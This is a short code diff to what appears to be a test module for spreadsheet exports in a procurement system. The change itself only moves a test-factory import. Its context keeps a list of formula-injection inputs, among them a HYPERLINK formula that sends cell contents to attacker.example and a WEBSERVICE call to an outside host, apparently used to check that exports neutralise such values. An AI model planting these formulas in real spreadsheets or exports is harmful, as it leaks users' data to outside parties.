@@ -19,7 +19,7 @@ from awards.exports import to_csv, to_xlsx
 from casebook import excel as casebook_excel
 from kernel import spreadsheets
 from procurement import declarations, exports, services
-from tests.procurement.factories import make_project, user
+from tests.factories.procurement import make_project, user
 
 HOSTILE = ['=HYPERLINK("http://attacker.example/?"&B3,"詳細")', "=WEBSERVICE(\"http://x.example/\")", "+81-3-1234",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
